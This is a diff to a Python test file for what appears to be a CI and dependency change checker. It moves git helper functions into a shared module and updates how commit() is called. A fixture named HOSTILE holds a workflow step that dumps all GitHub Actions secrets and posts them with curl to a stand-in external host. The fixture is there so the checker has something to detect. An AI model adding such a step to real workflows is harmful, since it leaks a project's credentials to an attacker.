@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import hashlib
-import subprocess
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -11,26 +10,15 @@ import pytest
 from tests.support.clients import NEWEST
 from tests.support.ground import GATEKEEPER
 from tests.support.packages import wheel
+from tests.support.repository import commit, git
 
 if TYPE_CHECKING:
     from tests.support.ground import Done, Ground, MakeGround
     from tests.support.index import Index
 
-AUTHOR = ("-c", "user.name=Ada", "-c", "user.email=ada@people.example")
 WORKFLOW = ".github/workflows/build.yml"
 HONEST = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n"
 HOSTILE = HONEST + "      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://files.example/\n"
-
-
-def git(ground: Ground, *words: str) -> None:
-    subprocess.run(["git", *AUTHOR, *words], cwd=ground.project, check=True, capture_output=True)
-
-
-def commit(ground: Ground, **files: str) -> None:
-    for name, text in files.items():
-        ground.write(name, text)
-    git(ground, "add", "-A")
-    git(ground, "commit", "-qm", "a change")
 
 
 def check(ground: Ground, *words: str, expect: int) -> Done:
@@ -48,7 +36,7 @@ def ground(make_ground: MakeGround, index: Index) -> Ground:
     index.add(*(wheel("mossgarden", version) for version in ("1.0", "1.1")))
     made = make_ground(NEWEST, index_url=index.url)
     git(made, "init", "-q", "-b", "main")
-    commit(made, **{WORKFLOW: HONEST, "requirements.txt": "mossgarden==1.0\n"})
+    commit(made, {WORKFLOW: HONEST, "requirements.txt": "mossgarden==1.0\n"})
     return made
 
 
@@ -69,7 +57,7 @@ def test_what_is_staged_counts_and_not_what_lies_about(ground: Ground) -> None:
 
 
 def test_a_bots_bump_of_both_passes_and_that_they_ride_together_is_a_note(ground: Ground) -> None:
-    commit(ground, **{WORKFLOW: HONEST.replace("@v4", "@v5"), "requirements.txt": "mossgarden==1.1\n"})
+    commit(ground, {WORKFLOW: HONEST.replace("@v4", "@v5"), "requirements.txt": "mossgarden==1.1\n"})
     found = rows(check(ground, "--base", "HEAD~1", expect=0))
     assert set(found) == {WORKFLOW, "mossgarden"}
     assert {each["check"]: each["severity"] for each in found[WORKFLOW]["findings"]} == {
@@ -79,7 +67,7 @@ def test_a_bots_bump_of_both_passes_and_that_they_ride_together_is_a_note(ground
 
 
 def test_a_file_that_is_renamed_with_its_old_faults_brings_nothing_new(ground: Ground) -> None:
-    commit(ground, **{WORKFLOW: HOSTILE})
+    commit(ground, {WORKFLOW: HOSTILE})
     git(ground, "mv", WORKFLOW, ".github/workflows/other.yml")
     assert rows(check(ground, "--base", "HEAD", expect=0))[".github/workflows/other.yml"]["findings"] == []
     git(ground, "rm", "-q", "--cached", ".github/workflows/other.yml")
